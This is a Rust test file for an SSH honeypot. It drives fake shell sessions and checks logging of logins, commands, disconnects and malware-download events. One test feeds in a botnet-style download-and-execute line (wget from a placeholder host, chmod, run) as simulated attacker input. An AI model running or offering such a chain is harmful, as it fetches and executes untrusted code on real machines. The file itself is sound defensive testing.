//! Session Tests
//!
//! Drive whole sessions through the engine over in-memory duplex streams and
//! check the transcript, the close reason and the recorded events.

use std::net::SocketAddr;
use std::sync::Arc;
use std::time::Duration;

use tokio::io::{AsyncReadExt, AsyncWriteExt, DuplexStream};

use crate::config::HoneypotConfig;
use crate::engine::Engine;
use crate::events::{EventKind, HoneypotEvent, MemorySink};
use crate::intel::{AddressClassifier, NoIntel};
use crate::session::{AuthAttempt, CloseReason, Rejected, SessionState};

// ============================================================================
// Helpers
// ============================================================================

fn test_config() -> HoneypotConfig {
    HoneypotConfig {
        max_sessions: 4,
        idle_timeout_secs: 30,
        command_delay_ms: 0,
        threat_intel: false,
        show_motd: false,
        rng_seed: Some(99),
        ..HoneypotConfig::default()
    }
}

fn engine_with(config: HoneypotConfig) -> (Engine, Arc<MemorySink>) {
    let sink = Arc::new(MemorySink::new());
    let engine = Engine::new(&config, sink.clone(), Arc::new(NoIntel)).unwrap();
    (engine, sink)
}

fn peer(port: u16) -> SocketAddr {
    SocketAddr::from(([198, 51, 100, 7], port))
}

/// Write `input` up front, then collect everything until the server hangs up
async fn client(mut stream: DuplexStream, input: &[u8]) -> String {
    stream.write_all(input).await.unwrap();
    let mut transcript = Vec::new();
    stream.read_to_end(&mut transcript).await.unwrap();
    String::from_utf8_lossy(&transcript).into_owned()
}

fn command_inputs(events: &[HoneypotEvent]) -> Vec<String> {
    events
        .iter()
        .filter_map(|e| match &e.kind {
            EventKind::Command { input, .. } => Some(input.clone()),
            _ => None,
        })
        .collect()
}

fn close_reasons(events: &[HoneypotEvent]) -> Vec<CloseReason> {
    events
        .iter()
        .filter_map(|e| match &e.kind {
            EventKind::Disconnect { reason, .. } => Some(*reason),
            _ => None,
        })
        .collect()
}

// ============================================================================
// Interactive Shell
// ============================================================================

#[tokio::test]
async fn test_shell_round_trip() {
    let (engine, sink) = engine_with(test_config());
    let mut session = engine.connect(peer(50001)).unwrap();
    assert_eq!(session.state(), SessionState::Authenticating);
    assert!(session.authenticate(AuthAttempt::password("root", "raspberry")));
    assert_eq!(session.state(), SessionState::Interactive);
    assert_eq!(session.username(), Some("root"));

    let (near, far) = tokio::io::duplex(64 * 1024);
    let (reason, transcript) = tokio::join!(
        session.run_shell(far),
        client(near, b"whoami\runame -a\rexit\r")
    );

    assert_eq!(reason, CloseReason::Exit);
    assert!(transcript.starts_with("root@raspberrypi:~# "));
    assert!(transcript.contains("whoami\r\nroot\r\n"));
    assert!(transcript.contains(engine.persona().kernel));
    assert!(transcript.ends_with("exit\r\nlogout\r\n"));
    assert_eq!(session.state(), SessionState::Closed);
    assert_eq!(session.command_count(), 3);

    let events = sink.events();
    assert_eq!(events.first().map(|e| e.kind.name()), Some("connection"));
    assert_eq!(sink.count("authentication"), 1);
    assert_eq!(command_inputs(&events), vec!["whoami", "uname -a", "exit"]);
    assert_eq!(close_reasons(&events), vec![CloseReason::Exit]);
    assert!(engine.registry().is_empty());
}

#[tokio::test]
async fn test_motd_precedes_prompt() {
    let config = HoneypotConfig {
        show_motd: true,
        persona: String::from("generic-iot"),
        ..test_config()
    };
    let (engine, _) = engine_with(config);
    let mut session = engine.connect(peer(50002)).unwrap();
    session.authenticate(AuthAttempt::password("admin", "admin"));

    let (near, far) = tokio::io::duplex(64 * 1024);
    let (_, transcript) = tokio::join!(session.run_shell(far), client(near, b"exit\r"));
    assert!(transcript.starts_with("BusyBox v1.30.1"));
    assert!(transcript.contains("admin@camera01:/root$ ") || transcript.contains("admin@camera01:~$ "));
}

#[tokio::test]
async fn test_bytes_arrive_one_at_a_time() {
    let (engine, sink) = engine_with(test_config());
    let mut session = engine.connect(peer(50003)).unwrap();
    session.authenticate(AuthAttempt::password("root", "1234"));

    let (mut near, far) = tokio::io::duplex(64 * 1024);
    let typist = async move {
        for byte in b"ls\r" {
            near.write_all(&[*byte]).await.unwrap();
            tokio::task::yield_now().await;
        }
        near.write_all(b"\x04").await.unwrap();
        let mut transcript = Vec::new();
        near.read_to_end(&mut transcript).await.unwrap();
        transcript
    };
    let (reason, _) = tokio::join!(session.run_shell(far), typist);

    assert_eq!(reason, CloseReason::EndOfTransmission);
    assert_eq!(command_inputs(&sink.events()), vec!["ls"]);
}

#[tokio::test]
async fn test_line_editing_reaches_interpreter() {
    let (engine, sink) = engine_with(test_config());
    let mut session = engine.connect(peer(50004)).unwrap();
    session.authenticate(AuthAttempt::password("root", "1234"));

    let (near, far) = tokio::io::duplex(64 * 1024);
    let (_, transcript) = tokio::join!(
        session.run_shell(far),
        client(near, b"whoamx\x7fi\r\x1b[A\r\x03exit\r")
    );

    assert_eq!(command_inputs(&sink.events()), vec!["whoami", "exit"]);
    assert!(transcript.contains("^C\r\n"));
}

#[tokio::test]
async fn test_download_chain_over_session() {
    let (engine, sink) = engine_with(test_config());
    let mut session = engine.connect(peer(50005)).unwrap();
    session.authenticate(AuthAttempt::password("root", "admin"));

    let (near, far) = tokio::io::duplex(64 * 1024);
    let line = b"cd /tmp; wget http://x.test/bot; chmod +x bot; ./bot\rexit\r";
    let (_, transcript) = tokio::join!(session.run_shell(far), client(near, line));

    assert!(transcript.contains("bash: ./bot: No such file or directory"));
    let downloads: Vec<_> = sink
        .events()
        .into_iter()
        .filter(|e| e.kind.name() == "malware-download")
        .collect();
    assert_eq!(downloads.len(), 1);
    assert_eq!(downloads[0].peer_ip.to_string(), "198.51.100.7");
}

#[tokio::test(start_paused = true)]
async fn test_idle_timeout_closes_once() {
    let config = HoneypotConfig {
        idle_timeout_secs: 5,
        ..test_config()
    };
    let (engine, sink) = engine_with(config);
    let mut session = engine.connect(peer(50006)).unwrap();
    session.authenticate(AuthAttempt::password("root", "root"));

    let (near, far) = tokio::io::duplex(1024);
    let (reason, transcript) = tokio::join!(session.run_shell(far), client(near, b""));

    assert_eq!(reason, CloseReason::IdleTimeout);
    assert!(transcript.ends_with("timed out waiting for input: auto-logout\r\n"));
    drop(session);
    assert_eq!(close_reasons(&sink.events()), vec![CloseReason::IdleTimeout]);
}

#[tokio::test]
async fn test_peer_hangup() {
    let (engine, sink) = engine_with(test_config());
    let mut session = engine.connect(peer(50007)).unwrap();
    session.authenticate(AuthAttempt::password("root", "root"));

    let (near, far) = tokio::io::duplex(1024);
    drop(near);
    assert_eq!(session.run_shell(far).await, CloseReason::PeerDisconnected);
    assert_eq!(close_reasons(&sink.events()), vec![CloseReason::PeerDisconnected]);
}

#[tokio::test]
async fn test_shell_before_authentication_is_a_fault() {
    let (engine, sink) = engine_with(test_config());
    let mut session = engine.connect(peer(50008)).unwrap();
    let (_near, far) = tokio::io::duplex(1024);
    assert_eq!(session.run_shell(far).await, CloseReason::Fault);
    assert_eq!(sink.count("disconnect"), 1);
}

// ============================================================================
// Authentication
// ============================================================================

#[tokio::test]
async fn test_every_attempt_is_logged_first_opens_shell() {
    let (engine, sink) = engine_with(test_config());
    let mut session = engine.connect(peer(50009)).unwrap();
    assert!(session.authenticate(AuthAttempt::publickey("deploy")));
    assert!(session.authenticate(AuthAttempt::password("root", "toor")));
    assert_eq!(session.username(), Some("deploy"));

    let attempts: Vec<(String, Option<String>)> = sink
        .events()
        .into_iter()
        .filter_map(|e| match e.kind {
            EventKind::Authentication { username, password, accepted, .. } => {
                assert!(accepted);
                Some((username, password))
            }
            _ => None,
        })
        .collect();
    assert_eq!(
        attempts,
        vec![
            ("deploy".to_string(), None),
            ("root".to_string(), Some("toor".to_string())),
        ]
    );
}

// ============================================================================
// Exec Requests
// ============================================================================

#[tokio::test]
async fn test_exec_runs_one_line() {
    let (engine, sink) = engine_with(test_config());
    let mut session = engine.connect(peer(50010)).unwrap();
    session.authenticate(AuthAttempt::password("root", "root"));

    let mut out: Vec<u8> = Vec::new();
    let status = session.exec("ls /nope", &mut out).await;

    assert_eq!(status, 2);
    assert_eq!(
        String::from_utf8(out).unwrap(),
        "ls: cannot access '/nope': No such file or directory\n"
    );
    assert_eq!(session.state(), SessionState::Closed);
    assert_eq!(close_reasons(&sink.events()), vec![CloseReason::Exit]);
}

// ============================================================================
// Admission
// ============================================================================

#[tokio::test]
async fn test_capacity_rejects_extra_connection() {
    let config = HoneypotConfig {
        max_sessions: 2,
        ..test_config()
    };
    let (engine, sink) = engine_with(config);
    let first = engine.connect(peer(50011)).unwrap();
    let _second = engine.connect(peer(50012)).unwrap();

    let third = engine.connect(peer(50013));
    assert!(matches!(third, Err(Rejected::AtCapacity { cap: 2 })));
    assert_eq!(engine.registry().len(), 2);
    assert_eq!(sink.count("connection"), 2);

    drop(first);
    assert!(engine.connect(peer(50014)).is_ok());
}

#[tokio::test]
async fn test_loopback_filtered_unless_enabled() {
    let local = SocketAddr::from(([127, 0, 0, 1], 50015));

    let (engine, sink) = engine_with(test_config());
    assert!(matches!(engine.connect(local), Err(Rejected::Loopback(_))));
    assert!(sink.events().is_empty());

    let (engine, sink) = engine_with(HoneypotConfig {
        log_localhost: true,
        ..test_config()
    });
    assert!(engine.connect(local).is_ok());
    assert_eq!(sink.count("connection"), 1);
}

#[tokio::test]
async fn test_dropped_session_still_reports_disconnect() {
    let (engine, sink) = engine_with(test_config());
    let mut session = engine.connect(peer(50016)).unwrap();
    session.authenticate(AuthAttempt::password("root", "root"));
    drop(session);

    assert_eq!(close_reasons(&sink.events()), vec![CloseReason::PeerDisconnected]);
    assert!(engine.registry().is_empty());
}

#[tokio::test]
async fn test_intel_attaches_to_later_events() {
    let config = HoneypotConfig {
        threat_intel: true,
        ..test_config()
    };
    let sink = Arc::new(MemorySink::new());
    let engine = Engine::new(&config, sink.clone(), Arc::new(AddressClassifier)).unwrap();
    let mut session = engine.connect(peer(50017)).unwrap();
    tokio::time::sleep(Duration::from_millis(20)).await;
    session.authenticate(AuthAttempt::password("root", "root"));

    let events = sink.events();
    let auth = events.iter().find(|e| e.kind.name() == "authentication").unwrap();
    let report = auth.intel.as_ref().unwrap();
    assert!(report.tags.iter().any(|t| t == "documentation"));
}

// ============================================================================
// Shutdown
// ============================================================================

#[tokio::test(start_paused = true)]
async fn test_shutdown_drains_active_sessions() {
    let (engine, sink) = engine_with(test_config());
    let mut session = engine.connect(peer(50018)).unwrap();
    session.authenticate(AuthAttempt::password("root", "root"));

    let (_near, far) = tokio::io::duplex(1024);
    let (reason, drained) = tokio::join!(session.run_shell(far), engine.shutdown());

    assert_eq!(reason, CloseReason::Shutdown);
    assert!(drained);
    assert_eq!(close_reasons(&sink.events()), vec![CloseReason::Shutdown]);
    assert!(matches!(
        engine.connect(peer(50019)),
        Err(Rejected::ShuttingDown)
    ));
}

#[tokio::test(start_paused = true)]
async fn test_shutdown_reports_stuck_sessions() {
    let config = HoneypotConfig {
        shutdown_grace_secs: 1,
        ..test_config()
    };
    let (engine, _) = engine_with(config);
    let _held = engine.connect(peer(50020)).unwrap();
    assert!(!engine.shutdown().await);
}
